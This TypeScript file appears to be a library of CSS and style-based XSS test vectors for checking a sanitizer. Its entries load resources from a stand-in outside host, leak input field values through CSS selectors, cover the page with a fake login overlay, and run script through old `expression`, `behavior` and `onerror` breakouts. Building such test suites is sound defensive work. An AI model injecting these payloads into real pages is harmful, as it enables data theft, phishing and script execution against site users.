/** Styles that fetch, cover the page or, in browsers of old, run. */
import {call, elsewhere, vectors} from './vector.ts'

export const styles = vectors('style', {
  import: `<style>@import url(${elsewhere}1.css);</style>`,
  'import without a style’s end': `<style>@import '${elsewhere}1.css';</style x>`,
  background: `<p style="background:url(${elsewhere}1.gif)">字</p>`,
  'background with escapes': `<p style="background:\\75 rl(${elsewhere}1.gif)">字</p>`,
  'background by an image set': `<p style="background:image-set('${elsewhere}1.gif' 1x)">字</p>`,
  font: `<style>@font-face{font-family:x;src:url(${elsewhere}1.woff)}p{font-family:x}</style>`,
  'letters of a field': `<style>input[value^=a]{background:url(${elsewhere}a)}</style><input value=abc>`,
  cover: `<div style="position:fixed;inset:0;z-index:9999"><a href="${elsewhere}">登录</a></div>`,
  'list mark': `<ul style="list-style:url(${elsewhere}1.gif)"><li>甲</li></ul>`,
  cursor: `<p style="cursor:url(${elsewhere}1.cur),auto">字</p>`,
  expression: `<p style="width:expression(${call})">字</p><p style="xss:expr/**/ession(${call})">乙</p>`,
  behaviour: `<p style="behavior:url(${elsewhere}1.htc);-moz-binding:url(${elsewhere}1.xml#x)">字</p>`,
  'script address': `<p style="background:url('javascript:${call}')">字</p>`,
  'end of the sheet': `<p style="</style><img src=x onerror=${call}>">字</p><style></style><img src=x onerror=${call}></style>`,
  'sheet of old': `<style type=text/javascript>${call}</style><xss style="behavior:url(#default#time2)" onbegin=${call}>`,
})
